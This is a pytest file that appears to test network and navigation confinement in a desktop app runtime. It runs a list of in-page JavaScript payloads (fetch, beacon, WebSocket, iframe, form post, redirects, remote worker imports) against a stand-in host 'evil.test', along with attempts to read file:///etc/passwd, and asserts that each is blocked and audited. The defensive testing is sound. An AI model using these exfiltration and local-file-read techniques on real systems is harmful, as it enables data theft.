"""Network and navigation confinement in real windows (issue 5).

A local recording server stands for the outside world: ``http://evil.test`` (not allowlisted)
and ``http://widgets.test`` (allowlisted when a test says so), both mapped to 127.0.0.1 by the
app's egress proxy only (``SUPERAPP_TEST_HOSTS``; the engine itself resolves no names). Each hostile page makes one kind of request at load. For a host the manifest does
not list, the recorder must receive **zero** requests, the app must still be on its own page,
and the attempt must be in the audit log. The same requests to an allowlisted host arrive, so
the guard is not simply blocking everything.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from superapp.core.paths import Paths
from tests.attacks.hostile import audit_events, call, make_app, wait_until

APP = "com.attacker.net"
EVIL = "http://evil.test"
GOOD = "http://widgets.test"
BLOCK_ACTIONS = ("net.blocked", "nav.blocked", "nav.popup_blocked")

#: name → page script; ``U`` is the target origin, ``W`` the WebSocket origin.
ATTACKS: dict[str, str] = {
    "fetch": "fetch(U + '/fetch').catch(() => {});",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', U + '/xhr'); x.send();",
    "img": "const i = new Image(); i.src = U + '/img.png'; document.body.append(i);",
    "script": "const s = document.createElement('script'); s.src = U + '/s.js'; document.body.append(s);",
    "css-url": "const d = document.createElement('div'); d.style.backgroundImage = `url(${U}/bg.png)`; d.textContent = 'x'; document.body.append(d);",
    "font-face": "new FontFace('evil', `url(${U}/f.woff2)`).load().catch(() => {});",
    "iframe": "const f = document.createElement('iframe'); f.src = U + '/frame.html'; document.body.append(f);",
    "websocket": "try { new WebSocket(W + '/ws'); } catch (e) {}",
    "beacon": "navigator.sendBeacon(U + '/beacon', 'data');",
    "prefetch": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = U + '/pre'; document.head.append(l);",
    "location-href": "location.href = U + '/nav';",
    "location-replace": "location.replace(U + '/replace');",
    "meta-refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + U + '/refresh'; document.head.append(m);",
    "form-post": "const f = document.createElement('form'); f.method = 'post'; f.action = U + '/post'; document.body.append(f); f.submit();",
    "window-open": "window.open(U + '/popup');",
    "target-blank": "const a = document.createElement('a'); a.href = U + '/blank'; a.target = '_blank'; document.body.append(a); a.click();",
}
#: Attacks whose request the engine makes as a sub-resource: these reach an allowlisted host.
#: (Not scripts: all code comes from the signed bundle; see the script test below.)
SUBRESOURCES = (
    "fetch",
    "xhr",
    "img",
    "css-url",
    "font-face",
    "iframe",
    "websocket",
    "beacon",
)


def _attack_app(tmp_path: Path, script: str, target: str, *, allow: bool) -> Path:
    ws = target.replace("http://", "ws://")
    host = target.removeprefix("http://")
    return make_app(
        tmp_path, APP,
        script=f"const U = {target!r}, W = {ws!r};\nwindow.addEventListener('load', () => {{ {script} window.__done = true; }});",
        allowed_hosts=[host] if allow else [], allow_http_hosts=[host] if allow else [],
    )  # fmt: skip


def _blocks(paths: Paths, needle: str) -> list[Any]:
    return [
        e for action in BLOCK_ACTIONS for e in audit_events(paths, action, APP)
        if needle in e["superapp"].get("url", "") or action == "nav.popup_blocked"
        or e["superapp"].get("rule", "").startswith("csp")
    ]  # fmt: skip


def _wait_blocked(paths: Paths, page: Any, needle: str) -> list[Any]:
    """Wait until the page ran its attack and the host has audited the refusal."""
    page.wait_for_function("() => window.__done === true")
    return wait_until(lambda: _blocks(paths, needle), what=f"a block of {needle} in the audit log")


@pytest.mark.parametrize("name", list(ATTACKS), ids=list(ATTACKS))
def test_request_to_a_host_not_in_the_allowlist_never_leaves_the_engine(
    name: str, tmp_path: Path, open_app: Any, net_hosts: Any, superapp_home: Paths
) -> None:
    _host, page = open_app(
        "dev", _attack_app(tmp_path, ATTACKS[name], EVIL, allow=False), env=net_hosts.env
    )
    blocks = _wait_blocked(superapp_home, page, "evil.test")
    assert blocks
    assert net_hosts.evil.hits == []
    assert page.url == f"app://{APP}/index.html"
    assert call(page, "app.info")["ok"] is True


@pytest.mark.parametrize("name", SUBRESOURCES, ids=list(SUBRESOURCES))
def test_the_same_request_to_an_allowlisted_host_arrives(
    name: str, tmp_path: Path, open_app: Any, net_hosts: Any
) -> None:
    _host, page = open_app(
        "dev", _attack_app(tmp_path, ATTACKS[name], GOOD, allow=True), env=net_hosts.env
    )
    net_hosts.good.wait_for_hits(1, timeout=30)
    assert page.url == f"app://{APP}/index.html"


def test_script_from_an_allowlisted_host_is_refused_code_comes_only_from_the_bundle(
    tmp_path: Path, open_app: Any, net_hosts: Any, superapp_home: Paths
) -> None:
    app = _attack_app(tmp_path, ATTACKS["script"], GOOD, allow=True)
    _host, page = open_app("dev", app, env=net_hosts.env)
    _wait_blocked(superapp_home, page, "widgets.test")
    assert net_hosts.good.hits == []


def test_redirect_from_an_allowlisted_host_to_another_is_refused(
    tmp_path: Path, open_app: Any, net_hosts: Any, superapp_home: Paths
) -> None:
    script = (
        "fetch(U + '/redirect?to=' + encodeURIComponent('http://evil.test/final')).catch(() => {});"
    )
    _host, page = open_app(
        "dev", _attack_app(tmp_path, script, GOOD, allow=True), env=net_hosts.env
    )
    net_hosts.good.wait_for_hits(1, timeout=30)
    _wait_blocked(superapp_home, page, "evil.test")
    assert net_hosts.evil.hits == []


@pytest.mark.parametrize(
    "script",
    ["location.href = 'file:///etc/passwd';", "fetch('file:///etc/passwd').catch(() => {});"],
    ids=["navigate", "fetch"],
)
def test_file_urls_are_refused(
    script: str, tmp_path: Path, open_app: Any, superapp_home: Paths
) -> None:
    _host, page = open_app("dev", _attack_app(tmp_path, script, EVIL, allow=False))
    _wait_blocked(superapp_home, page, "file:")
    assert page.url == f"app://{APP}/index.html"
    assert call(page, "app.info")["ok"] is True


@pytest.mark.parametrize(
    "script, files",
    [
        (
            "navigator.serviceWorker.register(U + '/sw.js')"
            ".then(() => 'registered', e => e.name).then(r => { window.__results.r = r; });",
            {},
        ),
        (
            "navigator.serviceWorker.register('sw.js')"
            ".then(() => 'registered', e => e.name).then(r => { window.__results.r = r; });",
            {"sw.js": "importScripts('http://evil.test/sw-import.js');"},
        ),
        (
            "const w = new Worker('worker.js'); w.onmessage = e => { window.__results.r = e.data; };",
            {
                "worker.js": "try { importScripts('http://evil.test/imp.js'); postMessage('imported'); }"
                " catch (e) { postMessage(e.name); }"
            },
        ),
    ],
    ids=["service-worker-remote", "service-worker-own-importing-remote", "worker-importScripts"],
)
def test_workers_cannot_reach_a_host_not_in_the_allowlist(
    script: str, files: dict[str, str], tmp_path: Path, open_app: Any, net_hosts: Any
) -> None:
    # Refused inside the renderer (service workers are not allowed on app://; importScripts
    # of a remote URL breaks the worker's CSP), before any request exists: nothing reaches
    # the host, so there is no audit entry to assert — only that nothing left and it failed.
    folder = _attack_app(tmp_path, script, EVIL, allow=False)
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")
    _host, page = open_app("dev", folder, env=net_hosts.env)
    page.wait_for_function("() => window.__results.r !== undefined")
    assert page.evaluate("window.__results.r") not in ("registered", "imported")
    assert net_hosts.evil.hits == []
